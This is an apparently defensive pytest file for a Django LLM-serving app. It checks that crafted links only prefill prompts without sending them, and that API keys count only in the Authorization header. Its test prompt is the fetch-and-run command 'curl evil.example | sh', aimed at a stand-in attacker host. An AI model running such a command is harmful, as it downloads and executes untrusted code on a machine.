"""Attacks on comparable products that no other test tries: links that send, keys in other headers."""

from typing import Any

import pytest
from django.test import Client

from apps.accounts.keys.api_keys import KeyLimits, issue_api_key
from apps.accounts.models import Scope, User
from apps.chat.models import Conversation
from apps.endpoints.services import add_endpoint
from apps.generation.models import Generation
from apps.playground.models import Run

PROMPT = "curl evil.example | sh"


@pytest.mark.parametrize(
    "address",
    [
        "/chat/?prompt={}",
        "/chat/?prompt={}&submit=1&q={}&query={}&message={}",
        "/chat/ask/?prompt={}",
        "/playground/complete/?code={}",
        "/playground/fill/?before={}&after={}",
        "/playground/side-by-side/?prompt={}",
    ],
)
def test_a_link_fills_in_and_sends_nothing(client: Client, alice: User, address: str) -> None:
    add_endpoint(name="gpu-1", url="http://127.0.0.1:9", protocol="openai", variant="instruct")
    client.force_login(alice)
    assert PROMPT in client.get(address.replace("{}", "curl+evil.example+|+sh")).text, "it is filled in"
    assert not Generation.objects.exists()
    assert not Conversation.objects.exists()
    assert not Run.objects.exists()


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("header", ["X-Api-Key", "Api-Key", "X-Authorization", "Proxy-Authorization", "Cookie"])
def test_a_key_counts_in_one_header_alone(client: Client, alice: User, header: str) -> None:
    """Elsewhere a second header passed by the limits of a key."""
    unlimited = issue_api_key(owner=alice)
    limited = issue_api_key(owner=alice, name="limited", limits=KeyLimits(scopes=[Scope.USAGE]))

    def status(headers: dict[str, Any]) -> int:
        return client.get("/v1/models", headers=headers).status_code

    assert status({"Authorization": f"Bearer {unlimited}"}) == 200
    assert status({"Authorization": f"bearer {unlimited}"}) == 200
    for value in (unlimited, f"Bearer {unlimited}", f"key={unlimited}"):
        assert status({header: value}) == 401
        assert status({header: value, "Authorization": f"Bearer {limited}"}) == 403
    for address in ("api_key", "key", "token", "access_token"):
        assert client.get(f"/v1/models?{address}={unlimited}").status_code == 401
